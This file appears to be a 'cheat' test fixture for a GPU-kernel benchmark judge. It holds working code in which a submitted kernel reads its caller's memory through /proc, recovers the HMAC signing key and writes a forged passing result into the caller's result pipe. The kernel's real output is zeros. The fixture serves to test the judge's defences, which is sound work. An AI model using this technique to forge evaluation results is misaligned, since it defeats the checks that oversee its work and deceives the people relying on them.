"""Cheat: steal the caller's HMAC key from its memory and sign a forged passing result (pygpubench:
forging the result channel; docs/threat-model.md, "The rules", rule 1, and docs/how-it-works.md, "The processes").

The judge signs its result lines with a key that only it and the caller hold, and the judge is
non-dumpable. The caller (the CLI, an MCP server, the orchestrator) is an ordinary process of the same
user, though: where no Yama ptrace restriction applies and the caller has no capability the candidate
lacks (any non-root user), the candidate can read ``/proc/<caller>/mem`` and open ``/proc/<caller>/fd/N``.
This fixture
  1. finds the caller: the parent of the outermost ``kernel_mcp.worker.judge`` ancestor, and only
     proceeds if its command line is ``kernel_mcp check`` (the CLI a test started);
  2. reads a signed progress line the caller has already received, still in its memory;
  3. tries every 32-byte ``bytes`` object in the caller's heap as the key (the caller keeps ``key`` alive
     in ``run_judge``) until one reproduces that line's MAC;
  4. signs ``{"type": "result", "result": {"passed": true, ...}}`` with it and writes the line into the
     caller's end of the result pipe (``/proc/<caller>/fd/N`` opened for writing).
Its own output is zeros: a pass can only come from the forgery. Expected: fail.
"""
import hashlib
import hmac
import json
import os
import re
import struct

import torch

from _cheat_util import ancestors, maps, readable_regions

LINE = re.compile(rb'\{"body": "(?:[^"\\]|\\.){10,2000}", "mac": "[0-9a-f]{64}"\}')
_tried = []


def _remote_address(pid, local_address):
    """Where an object of the shared python binary/libpython (e.g. PyBytes_Type) lives in ``pid``."""
    for start, end, _, offset, path in maps("self"):
        if start <= local_address < end and path.startswith("/"):
            file_offset = local_address - start + offset
            for r_start, r_end, _, r_offset, r_path in maps(pid):
                if r_path == path and r_offset <= file_offset < r_offset + (r_end - r_start):
                    return r_start + file_offset - r_offset
    return None


def _steal_key(pid):
    bytes_type = _remote_address(pid, id(bytes))
    if bytes_type is None:
        return None, None
    header = struct.pack("<Qq", bytes_type, 32)  # ob_type, ob_size of a 32-byte bytes object
    keys, lines = set(), []
    for region in readable_regions(pid):
        at = region.find(header)
        while at != -1:
            keys.add(region[at + 24: at + 56])  # skip ob_shash
            at = region.find(header, at + 8)
        lines.extend(m.group(0) for m in LINE.finditer(region))
    for raw in lines:
        try:
            outer = json.loads(raw)
        except ValueError:
            continue
        for key in keys:
            mac = hmac.new(key, outer["body"].encode(), hashlib.sha256).hexdigest()
            if hmac.compare_digest(mac, outer["mac"]):
                return key, outer
    return None, None


def _forge(caller, key):
    result = {"passed": True, "verdict": "pass", "problem": "vector_add", "candidate": __file__,
              "device": "cpu", "cases": [], "findings": [], "problem_degenerate": False, "seconds": 1.0,
              "log_tail": ""}
    text = json.dumps({"type": "result", "result": result}, sort_keys=True)
    line = json.dumps({"body": text, "mac": hmac.new(key, text.encode(), hashlib.sha256).hexdigest()}) + "\n"
    for fd in os.listdir(f"/proc/{caller}/fd"):
        if int(fd) <= 2:
            continue
        try:
            if not os.readlink(f"/proc/{caller}/fd/{fd}").startswith("pipe:"):
                continue
            flags = int(open(f"/proc/{caller}/fdinfo/{fd}").read().split("flags:")[1].split()[0], 8)
            if flags & os.O_ACCMODE != os.O_RDONLY:
                continue  # the caller's end of the result pipe is the read end
            handle = os.open(f"/proc/{caller}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
        except (OSError, ValueError, IndexError):
            continue
        try:
            os.write(handle, line.encode())
        finally:
            os.close(handle)


def _attack():
    chain = ancestors(6)
    judges = [i for i, (_, cmd) in enumerate(chain) if b"kernel_mcp.worker.judge" in cmd]
    if not judges or judges[-1] + 1 >= len(chain):
        return
    caller, cmd = chain[judges[-1] + 1]
    if b"kernel_mcp\x00check" not in cmd:  # only the CLI a test started, never another process
        return
    key, _ = _steal_key(caller)
    if key is not None:
        _forge(caller, key)


def custom_kernel(data):
    a, _ = data
    if not _tried:
        _tried.append(True)
        try:
            _attack()
        except OSError:
            pass
    return torch.zeros_like(a)

